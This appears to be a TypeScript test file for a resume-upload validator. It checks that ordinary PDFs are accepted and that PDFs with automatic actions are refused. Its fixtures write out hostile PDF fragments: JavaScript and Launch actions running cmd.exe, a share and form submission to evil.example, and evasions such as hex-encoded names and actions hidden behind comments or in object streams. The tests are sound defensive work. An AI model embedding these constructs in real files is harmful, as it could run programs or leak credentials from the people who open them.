import { aLockedPdf, aPackedPdf, aPdfWith } from '#tests/factories/pdf.ts';
import { aPdf } from '#tests/factories/resume.ts';
import { describe, expect, it } from 'vitest';
import type { Refusal } from './refused.ts';
import { resumeTypeOf } from './resume-type.ts';

const text = (content: string) => Buffer.from(content, 'latin1');
const outcome = (bytes: Buffer) =>
  resumeTypeOf(bytes).catch((error: { reason?: string }) => error.reason ?? String(error));

describe('a PDF every viewer opens', () => {
  it.each([
    ['with a page of something after its end', Buffer.concat([aPdf(), Buffer.alloc(8000, 0x20)])],
    ['with rubbish after its end', Buffer.concat([aPdf(), Buffer.alloc(5000, 'x')])],
    ['with something before it', Buffer.concat([text(`${'x'.repeat(900)}\n`), aPdf()])],
    [
      'without a table of places',
      text(
        aPdf()
          .toString('latin1')
          .replace(/startxref\n\d+/, 'startxref\n0'),
      ),
    ],
    ['of version 2.0', aPdfWith({ version: '2.0' })],
    ['that begins with what a browser needs first', linearised()],
    ['with object streams and a packed table', aPackedPdf()],
    ['with object streams that are not packed', aPackedPdf({ filter: '', pack: (content) => content })],
    [
      'with links to press',
      aPdfWith({ page: '/Annots [6 0 R]', more: [link('/S /URI /URI (https://asha.example)')] }),
    ],
    ['that opens at a page', aPdfWith({ catalog: '/OpenAction [3 0 R /Fit]' })],
    ['that opens at a place', aPdfWith({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' })],
    [
      'that talks of /S /JavaScript in its words',
      aPdfWith({ more: ['<< /Title (HTML /S /JavaScript /S /Launch) >>'], trailer: '/Info 6 0 R' }),
    ],
    ['with an empty list of scripts', aPdfWith({ catalog: '/Names << /JavaScript << /Names [] >> >>' })],
    ['that was changed and has two ends', Buffer.concat([aPdf(), text(laterChange(aPdf().length))])],
  ])('%s', async (_, bytes) => {
    expect(await outcome(bytes)).toBe('pdf');
  });

  it('is taken when it is locked against changes but open to readers', async () => {
    expect(await outcome(await aLockedPdf())).toBe('pdf');
  });

  it('is refused when nobody could read it without a password', async () => {
    expect(await outcome(await aLockedPdf('secret'))).toBe('locked');
  });
});

describe('a PDF that does something by itself', () => {
  const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
  const launch = '<< /S /Launch /F (cmd.exe) >>';
  const share = '<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>';
  it.each<[string, Buffer, Refusal]>([
    ['a script when it is opened', aPdfWith({ catalog: `/OpenAction ${script}` }), 'pdfActions'],
    [
      'a script of the document',
      aPdfWith({ catalog: `/Names << /JavaScript << /Names [(a) 6 0 R] >> >>`, more: [script] }),
      'pdfActions',
    ],
    ['a script before it is closed', aPdfWith({ catalog: `/AA << /WC ${script} >>` }), 'pdfActions'],
    ['a script of a page', aPdfWith({ page: `/AA << /O ${script} >>` }), 'pdfActions'],
    [
      'a script behind a link',
      aPdfWith({ page: '/Annots [6 0 R]', more: [link('/S /JavaScript /JS (app.alert\\(1\\))')] }),
      'pdfActions',
    ],
    [
      'a script that comes second',
      aPdfWith({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>` }),
      'pdfActions',
    ],
    ['a program when it is opened', aPdfWith({ catalog: `/OpenAction ${launch}` }), 'pdfActions'],
    [
      'a program behind a reference',
      aPdfWith({ catalog: '/OpenAction 6 0 R', more: [launch] }),
      'pdfActions',
    ],
    [
      'a kind that is a reference',
      aPdfWith({ catalog: '/OpenAction 6 0 R', more: ['<< /S 7 0 R /F (cmd.exe) >>', '/Launch'] }),
      'pdfActions',
    ],
    [
      'a program behind a link',
      aPdfWith({ page: '/Annots [6 0 R]', more: [link('/S /Launch /F (cmd.exe)')] }),
      'pdfActions',
    ],
    [
      'names with their letters as numbers',
      aPdfWith({ catalog: '/#4fpenAction << /#53 /L#61unch /F (cmd.exe) >>' }),
      'pdfActions',
    ],
    [
      'a script in an object stream',
      aPackedPdf({ catalog: '/OpenAction 6 0 R', more: [script] }),
      'pdfActions',
    ],
    [
      'a program in an object stream',
      aPackedPdf({ catalog: '/OpenAction 6 0 R', more: [launch] }),
      'pdfActions',
    ],
    [
      'a program in an object stream, in numbers',
      aPackedPdf({ catalog: '/OpenAction 6 0 R', more: ['<</S/L#61#75nch/F(cmd.exe)>>'] }),
      'pdfActions',
    ],
    [
      'a program in an object stream that says so nowhere',
      text(
        aPackedPdf({ catalog: '/OpenAction 6 0 R', more: [launch] })
          .toString('latin1')
          .replace('/Type /ObjStm', '/Tipe /ObjStm'),
      ),
      'pdfActions',
    ],
    [
      'a program in an object stream behind comments',
      text(
        aPackedPdf({ catalog: '/OpenAction 6 0 R', more: [launch] })
          .toString('latin1')
          .replace('/FlateDecode >>\nstream', `/FlateDecode >>%(\n${' '.repeat(50)}%<<\nstream`),
      ),
      'pdfActions',
    ],
    [
      'one kind behind another',
      aPdfWith({ catalog: '/OpenAction << /S /Launch /S /GoTo /F (cmd.exe) >>' }),
      'pdfActions',
    ],
    [
      'a program behind comments',
      aPdfWith({ catalog: '/OpenAction %)\n<< /S%<<\n/Launch >>' }),
      'pdfActions',
    ],
    [
      'a program behind a text that never ends',
      Buffer.concat([
        text('%PDF-1.4\n9 0 obj\n(\nendobj\n'),
        aPdfWith({ catalog: `/OpenAction ${launch}` }).subarray(9),
      ]),
      'pdfActions',
    ],
    [
      'a web page when it is opened',
      aPdfWith({ catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
      'remote',
    ],
    ['a share when it is opened', aPdfWith({ catalog: `/OpenAction ${share}` }), 'remote'],
    ['a share when a page is shown', aPdfWith({ page: `/AA << /O 6 0 R >>`, more: [share] }), 'remote'],
    [
      'a form that is sent when it is opened',
      aPdfWith({ catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example) >>' }),
      'remote',
    ],
    [
      'objects packed in a way nobody uses',
      aPackedPdf({
        filter: '[/ASCIIHexDecode /FlateDecode]',
        pack: (content) => text(`${content.toString('hex')}>`),
      }),
      'damaged',
    ],
  ])('%s', async (_, bytes, reason) => {
    expect(await outcome(bytes)).toBe(reason);
  });

  it('is found where only the reader of PDFs can look: in objects that are locked', async () => {
    const bytes = await aLockedPdf();
    // The names of a locked file are open, its texts and streams are not.
    const spoilt = text(
      bytes
        .toString('latin1')
        .replace('/Type /Catalog', '/Type /Catalog\n/OpenAction << /S /Launch /F (a) >>'),
    );
    expect(await outcome(spoilt)).toBe('pdfActions');
  });
});

function linearised(): Buffer {
  const head = '%PDF-1.4\n9 0 obj\n<< /Linearized 1 /L 0000000000 /H [0 0] /O 3 /E 0 /N 1 /T 0 >>\nendobj\n';
  const whole = head + aPdf().toString('latin1').slice('%PDF-1.4\n'.length);
  return text(whole.replace('0000000000', String(whole.length).padStart(10, '0')));
}

function link(action: string): string {
  return `<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>`;
}

function laterChange(previous: number): string {
  return `5 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>\nendobj\nxref\n5 1\n${String(previous).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n${previous + 66}\n%%EOF\n`;
}
